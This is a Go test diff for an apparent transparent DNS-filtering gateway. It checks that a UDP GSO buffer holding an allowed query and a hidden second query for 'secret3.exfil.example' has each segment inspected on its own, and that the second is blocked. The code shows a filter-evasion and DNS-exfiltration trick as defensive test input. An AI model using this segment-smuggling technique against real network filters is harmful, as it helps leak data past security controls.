@@ -1197,3 +1197,58 @@ func TestExplainDNSFromLAN(t *testing.T) {
 		t.Errorf("explain -from %s udp %s: %s %s (rule %q), but the data path drops it", sb.GatewayLANIface, dst, a.Verdict, a.Reason, a.Rule.Name)
 	}
 }
+
+// TestTransparentDNSUDPGSO: a process on the gateway sends one UDP GSO
+// buffer (UDP_SEGMENT) whose first segment is an allowed query and whose
+// second asks for a name off the list. The queue sees every segment on its
+// own: the first reaches the upstream, the second does not.
+func TestTransparentDNSUDPGSO(t *testing.T) {
+	g := newGateway(t, demopolicy.Params{Transparent: true})
+	g.addEvilZone(hostPort(evilUpstream4, 53))
+	g.start()
+	f := g.startFakeResolver(evilUpstream4, evilAnswers)
+
+	const segment = 96
+	msg := func(id uint16, name string) []byte {
+		m := new(dns.Msg)
+		m.SetQuestion(name, dns.TypeA)
+		m.Id = id
+		b, err := m.Pack()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return b
+	}
+	first := msg(0x7001, "h15.evil.test.")
+	first = append(first, make([]byte, segment-len(first))...) // trailing bytes pass
+	buf := append(first, msg(0x7002, "secret3.exfil.example.")...)
+
+	err := g.sb.Do(sb.Gateway, func() error {
+		c, err := net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(netip.MustParseAddrPort(hostPort(evilUpstream4, 53))))
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		raw, err := c.SyscallConn()
+		if err != nil {
+			return err
+		}
+		var serr error
+		raw.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.IPPROTO_UDP, unix.UDP_SEGMENT, segment) })
+		if serr != nil {
+			return fmt.Errorf("UDP_SEGMENT: %w", serr)
+		}
+		_, err = c.Write(buf)
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(500 * time.Millisecond)
+	if !f.gotID(0x7001) {
+		t.Errorf("the allowed first segment did not reach the upstream")
+	}
+	if f.gotID(0x7002) || f.seen("secret3.exfil.example") {
+		t.Errorf("the second segment, a name off the list, reached the upstream")
+	}
+}
